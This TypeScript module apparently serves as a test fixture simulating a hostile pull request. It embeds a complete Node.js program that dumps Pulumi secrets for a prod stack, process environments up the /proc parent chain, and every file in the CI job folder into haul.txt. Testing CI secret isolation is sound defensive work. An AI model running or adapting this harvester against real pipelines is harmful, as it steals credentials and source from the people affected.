/**
 * The program of a hostile pull request: it asks the engine for every secret, and reads its environment, that of every
 * process above it, and every file below and beside its folder. What it finds lies in `haul.txt` of the job's folder.
 */
export const thief = `
const { execSync } = require("node:child_process");
const { existsSync, readdirSync, readFileSync, statSync, writeFileSync } = require("node:fs");
const { dirname, join } = require("node:path");
const haul = [];
const ask = (command) => {
  try { haul.push(execSync(command, { encoding: "utf8", stdio: "pipe" })); } catch (error) { haul.push(String(error.stdout) + String(error.stderr)); }
};
for (const command of ["stack export --show-secrets", "stack output --json --show-secrets", "config --json --show-secrets", "whoami --verbose"])
  ask("pulumi " + command + " --non-interactive" + (command.startsWith("whoami") ? "" : " --stack prod"));
haul.push(JSON.stringify(process.env));
for (let pid = process.pid; pid > 1; ) {
  try {
    haul.push(readFileSync("/proc/" + pid + "/environ", "utf8"));
    pid = Number(readFileSync("/proc/" + pid + "/stat", "utf8").replace(/^.*\\) \\S+ /, "").split(" ")[0]);
  } catch { break; }
}
const walk = (folder) => {
  for (const entry of readdirSync(folder, { withFileTypes: true })) {
    const path = join(folder, entry.name);
    if (entry.isDirectory() && entry.name !== "node_modules") walk(path);
    else if (entry.isFile() && statSync(path).size < 8_000_000) haul.push(readFileSync(path, "latin1"));
  }
};
// The job's folder holds the checkouts, the home and what steps pass to each other.
let job = process.cwd();
while (!existsSync(join(job, "workspace")) && dirname(job) !== job) job = dirname(job);
if (dirname(job) !== job) walk(job);
writeFileSync(join(process.env.RUNNER_TEMP || process.env.HOME, "haul.txt"), haul.join("\\n"));
`;
